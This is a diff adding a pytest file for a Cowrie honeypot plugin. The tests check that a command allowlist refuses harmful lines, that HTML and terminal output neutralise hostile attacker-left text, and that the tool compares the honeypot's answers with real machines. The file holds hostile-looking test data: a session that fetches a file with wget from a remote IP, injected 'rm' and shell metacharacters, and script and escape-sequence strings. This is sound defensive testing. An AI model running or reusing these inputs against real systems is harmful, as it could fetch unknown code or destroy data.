@@ -1,0 +1,327 @@
+"""One's own honeypot beside a real machine; what may run there, and what may not."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import re
+import subprocess
+import threading
+from collections.abc import Iterator, Sequence
+from pathlib import Path
+from typing import Any
+
+import asyncssh
+import pytest
+from attackers import PASSWORD, Ports
+from conftest import Environment
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from logs import tool
+from ports import free_port
+
+from cowrie_sessionstats.compare import local, page, terminal
+from cowrie_sessionstats.compare.allowlist import may_run
+from cowrie_sessionstats.compare.answers import BYTES, Answer
+from cowrie_sessionstats.compare.comparing import Row, compared
+from cowrie_sessionstats.compare.references import PACKAGED, packaged
+from cowrie_sessionstats.findings.rules import default_rules
+
+EVIL = Path(__file__).with_name("evil_lines.txt").read_text("utf-8").splitlines()
+CHECKS = [check for check in default_rules().checks if check.example]
+HARMLESS = [check.example[0] for check in CHECKS if check.reads_only]
+LAST = [
+    "uname -a", "w", "which ls", "crontab -l", "free -m | grep Mem | awk '{print $2 ,$3, $4}'",
+    "cat /proc/cpuinfo | grep model | grep name | wc -l", "lscpu | grep Model", "ls -la /",
+    "grep -c ^processor /proc/cpuinfo", "id; uname -m && nproc || echo 1", "uptime 2>/dev/null",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("line", EVIL)
+def test_what_can_do_harm_does_not_run(line: str) -> None:
+    """Whatever writes, deletes, fetches, kills, waits, or is not understood."""
+    assert not may_run(line)
+
+
+def test_there_are_enough_of_them() -> None:
+    """And no line twice."""
+    assert len(set(EVIL)) > 250
+
+
+@pytest.mark.parametrize("line", [*HARMLESS, *LAST])
+def test_what_only_reads_runs(line: str) -> None:
+    """The checks that say so, and the study's last commands."""
+    assert may_run(line)
+
+
+@pytest.mark.parametrize(
+    "line", ["", " ", "\n", "ls\nrm x", "ls\r", "ls\0", "l\u00e4s", "ls " * 300]
+)
+def test_lines_that_are_none(line: str) -> None:
+    """Empty, of several lines, with control characters, of other letters, too long."""
+    assert not may_run(line)
+
+
+SIGNS = "; & | && > < >> $( ) ` ' \" \\ $ * ? ~ { } ( ! # = %"
+WORDS = (" rm x ", " x", "/x/", "../", "-i", "-o", " -f ", " of=x", "\t", " 2>", " ", "rm ")
+PIECES = (*SIGNS.split(), *WORDS)
+WHICH = re.compile(r"\$\( ?which [a-z0-9_-]+ ?\)")
+NULL = re.compile(r"[012&]?>>?[ \t]*/dev/null|2>&1")
+
+
+@settings(max_examples=1_000)
+@given(
+    st.sampled_from([*HARMLESS, *LAST]),
+    st.lists(st.tuples(st.integers(0, 90), st.sampled_from(PIECES)), max_size=4),
+)
+def test_no_change_of_a_harmless_line_makes_it_do_harm(
+    line: str, changes: list[tuple[int, str]]
+) -> None:
+    """What may run after anything was put in has nothing of a shell's but pipes and lists.
+
+    Told by other means than the grammar's: quotes are taken out, then what it allows.
+    """
+    for at, piece in changes:
+        line = line[:at] + piece + line[at:]
+    if not may_run(line):
+        return
+    parts = re.split("['\"]", line)
+    bare = NULL.sub(" ", WHICH.sub(" ", " ".join(parts[::2])))
+    assert not set(bare.replace("&&", " ")) & set("`<>&{}()~*?[]!#$\\\n\r\0"), line
+    for command in re.split(r"&&|\|\||[;|]", bare):
+        assert command.split()[:1] != ["rm"], line
+
+
+# ---------------------------------------------------------------- answers
+
+
+def test_a_local_answer_is_bounded_and_sees_nothing_of_ours(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """In bytes; without our environment; and what may not run is refused here, too."""
+    monkeypatch.setenv("SECRET_OF_OURS", "x")
+    assert local.run("uname").output == "Linux\n"
+    assert "SECRET" not in local.run_any("env").output
+    much = local.run_any("head -c 1000000 /dev/zero")
+    assert (len(much.output), much.is_cut, much.status) == (BYTES, True, None)
+    with pytest.raises(ValueError, match="rm x"):
+        local.run("rm x")
+
+
+@pytest.mark.parametrize(
+    ("ours", "theirs", "verdict"),
+    [
+        (Answer("a\r\nb\n", 0), Answer("a\nb\n", 0), "same"),
+        (Answer("up 3 days, 1.2G\n"), Answer("up 14 days, 900M\n"), "varies"),
+        (Answer("Linux svr04 3.2 #1 SMP\n"), Answer("Linux server <kernel> <build>\n"), "differs"),
+        (Answer("Linux server 3.2 #1 SMP\n"), Answer("Linux server <kernel> <build>\n"), "varies"),
+        (Answer("bash: lscpu: command not found\n"), Answer("Architecture: x86_64\n"), "missing"),
+        (Answer("phil\n"), Answer("op\n"), "differs"),
+        (Answer("\x7fELF\x02\x01"), Answer("\x7fELF\x02", is_cut=True), "same"),
+        (None, Answer("x"), "unknown"),
+    ],
+)  # fmt: skip
+def test_how_answers_differ(ours: Answer | None, theirs: Answer | None, verdict: str) -> None:
+    """In what gives a honeypot away, or only in what differs on any two machines."""
+    assert compared(ours, theirs) == verdict
+
+
+def test_the_packaged_references_are_recordings() -> None:
+    """Of three machines, with the checks and the study's last commands, and no word of ours."""
+    for name in PACKAGED:
+        reference = packaged(name)
+        assert "recorded 20" in reference.machine
+        assert {check.example[0] for check in CHECKS} <= reference.answers.keys()
+        assert reference.answers["uname"].output == "Linux\n"
+        assert "<kernel>" in reference.answers["uname -a"].output
+    outputs = [packaged(name).answers["kill %1"].output for name in PACKAGED]
+    assert all("no such job" in output for output in outputs)
+    assert "applet not found" in packaged("debian13").answers["/bin/busybox ZONESEC"].output
+
+
+HOSTILE = "\x1b[31m\x1b]0;x\x07<script>alert(1)</script>\r\n\u202e" + "x" * 5_000 + "\x9b2J\0"
+
+
+def test_hostile_answers_are_text(tmp_path: Path) -> None:
+    """On a terminal and on a page: a honeypot's answers are what attackers left there."""
+    rows = [
+        Row(f"uname {HOSTILE}", "x", 3, Answer(HOSTILE, 1), Answer("Linux\n", 0), "differs"),
+        Row("w", None, 0, None, Answer("x"), "unknown"),
+    ]
+    with (tmp_path / "out").open("w") as out:
+        terminal.write(rows, f"h{HOSTILE}", "r", out)
+    told = (tmp_path / "out").read_text()
+    assert all(c.isprintable() or c == "\n" for c in told)
+    with (tmp_path / "page.html").open("wb") as written:
+        page.write(rows, f"h{HOSTILE}", "r", written)
+    made = (tmp_path / "page.html").read_text()
+    assert "<script" not in made
+    assert "\x1b" not in made
+    assert "default-src &#39;none&#39;" in made
+
+
+# ---------------------------------------------------------------- machines
+
+
+class RealShell:
+    """An SSH server that runs what it is told in a real shell; and notes it."""
+
+    def __init__(self, key: asyncssh.SSHKey) -> None:
+        self.port = free_port()
+        self.lines: list[str] = []
+        self._key = key
+        self._ready = threading.Event()
+        self._loop = asyncio.new_event_loop()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+        self._thread.start()
+        assert self._ready.wait(20)
+
+    def _run(self) -> None:
+        self._loop.run_until_complete(self._serve())
+
+    async def _serve(self) -> None:
+        self._stop = asyncio.Event()
+        lines = self.lines
+
+        class Server(asyncssh.SSHServer):
+            def begin_auth(self, _username: str) -> bool:
+                return False
+
+        async def process(shell: asyncssh.SSHServerProcess[bytes]) -> None:
+            line = shell.command or ""
+            lines.append(line)
+            done = subprocess.run(  # noqa: ASYNC221 - it has nothing else to do
+                ["/bin/bash", "-c", line],
+                capture_output=True,
+                stdin=subprocess.DEVNULL,
+                check=False,
+            )
+            shell.stdout.write(done.stdout + done.stderr)
+            shell.exit(done.returncode)
+
+        async with asyncssh.listen(
+            "127.0.0.1", self.port, server_factory=Server, process_factory=process,
+            server_host_keys=[self._key], encoding=None,
+        ):  # fmt: skip
+            self._ready.set()
+            await self._stop.wait()
+
+    def close(self) -> None:
+        """End it."""
+        self._loop.call_soon_threadsafe(self._stop.set)
+        self._thread.join(10)
+
+
+@pytest.fixture(scope="module")
+def cowrie(environment: Environment, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ports]:
+    """Return a running Cowrie, without the plugin."""
+    folder = tmp_path_factory.mktemp("compared")
+    ports = Ports(free_port(), free_port())
+    environment.installation.init(folder)
+    (folder / "etc/userdb.txt").write_text(f"root:x:{PASSWORD}\nroot:x:admin\n")
+    (folder / "cowrie.cfg").write_text(
+        f"[ssh]\nlisten_endpoints = tcp:{ports.ssh}:interface=127.0.0.1\n"
+        f"[telnet]\nenabled = true\nlisten_endpoints = tcp:{ports.telnet}:interface=127.0.0.1\n"
+    )
+    running = environment.installation.start(folder)
+    yield ports
+    running.stop()
+
+
+def rows_of(out: bytes) -> dict[str, dict[str, Any]]:
+    """Return the commands of a comparison by their line."""
+    return {row["command"]: row for row in json.loads(out)["commands"]}
+
+
+@pytest.mark.cowrie
+def test_a_cowrie_beside_debian(cowrie: Ports, tmp_path: Path) -> None:
+    """All checks that only read, those first on which most of one's sessions ended."""
+    sessions = tmp_path / "sessions.jsonl"
+    endings: Sequence[tuple[str, int]] = (
+        ("which ls", 5),
+        ("wget http://203.0.113.9/x", 4),
+        ("w", 2),
+    )
+    lines = [
+        {"eventid": "cowrie.sessionstats.summary", "schema": 1, "session": f"{n:06x}{m:06x}",
+         "message": "", "logged_in": True, "last_command": line, "last_command_template": line,
+         "sensor": "s", "start": f"2026-03-18T10:00:{m:02d}.{n:06d}Z"}
+        for n, (line, count) in enumerate(endings) for m in range(count)
+    ]  # fmt: skip
+    sessions.write_text("".join(json.dumps(line) + "\n" for line in lines))
+    password = tmp_path / "password"
+    password.write_text(PASSWORD + "\n")
+    html = tmp_path / "page.html"
+    said = tool(
+        "compare", sessions, "--honeypot", f"127.0.0.1:{cowrie.ssh}", "--password-file", password,
+        "--json", "--html", html,
+    )  # fmt: skip
+    assert said.status == 0, said.err
+    rows = rows_of(said.out)
+    assert list(rows)[:2] == ["which ls", "w"]
+    assert [rows[line]["sessions"] for line in ("which ls", "w")] == [5, 2]
+    assert "wget http://203.0.113.9/x" not in rows, "it was run nowhere"
+    assert {check.example[0] for check in CHECKS if check.reads_only} <= rows.keys()
+    assert rows["kill %1"]["reference"]["output"].endswith("no such job\n")
+    assert rows["uname -a"]["verdict"] if "uname -a" in rows else True
+    verdicts = {row["verdict"] for row in rows.values()}
+    assert {"same", "differs"} <= verdicts
+    assert html.read_text().count("<details") == len(rows)
+    plain = tool("compare", "--honeypot", f"127.0.0.1:{cowrie.ssh}", "--reference", "busybox")
+    assert plain.status == 0, plain.err
+    assert b"busybox-made-up-applet" in plain.out
+
+
+@pytest.mark.cowrie
+def test_a_cowrie_beside_machines_that_are_asked(cowrie: Ports, tmp_path: Path) -> None:
+    """Over SSH and here; of what does not only read, they are never asked."""
+    key = asyncssh.generate_private_key("ssh-ed25519")
+    server = RealShell(key)
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    public = key.export_public_key().decode()
+    (home / ".ssh/known_hosts").write_text(f"[127.0.0.1]:{server.port} {public}")
+    try:
+        said = tool(
+            "compare", "--honeypot", f"127.0.0.1:{cowrie.ssh}", "--json",
+            "--reference", f"ssh://root@127.0.0.1:{server.port}",
+            env={**os.environ, "HOME": str(home)},
+        )  # fmt: skip
+        assert said.status == 0, said.err
+        assert server.lines
+        assert all(map(may_run, server.lines))
+        rows = rows_of(said.out)
+        assert rows["kill %1"]["reference"] is None
+        assert rows["kill %1"]["verdict"] == "unknown"
+        asked = rows["which ls"]["reference"]["output"]
+    finally:
+        server.close()
+    said = tool(
+        "compare", "--honeypot", f"127.0.0.1:{cowrie.ssh}", "--reference", "local", "--json"
+    )
+    assert said.status == 0, said.err
+    assert rows_of(said.out)["which ls"]["reference"]["output"] == asked
+
+
+@pytest.mark.cowrie
+def test_whoever_is_not_let_in_is_told(cowrie: Ports, tmp_path: Path) -> None:
+    """And whoever names a place where nobody is, or no place at all."""
+    wrong = tmp_path / "password"
+    wrong.write_text("wrong\n")
+    place = f"127.0.0.1:{cowrie.ssh}"
+    said = tool("compare", "--honeypot", place, "--password-file", wrong)
+    assert said.status == 1
+    assert "does not let root in" in said.err
+    nobody = tool("compare", "--honeypot", f"127.0.0.1:{free_port()}")
+    assert nobody.status == 1
+    assert "cannot be asked" in nobody.err
+    for bad in (["--honeypot", "nowhere"], ["--honeypot", place, "--reference", "debian11"]):
+        said = tool("compare", *bad)
+        assert said.status == 2
+        assert "Traceback" not in said.err
+    broken = tmp_path / "recording.json"
+    broken.write_text("{}")
+    said = tool("compare", "--honeypot", place, "--reference", broken)
+    assert said.status == 1
+    assert "is no recording" in said.err
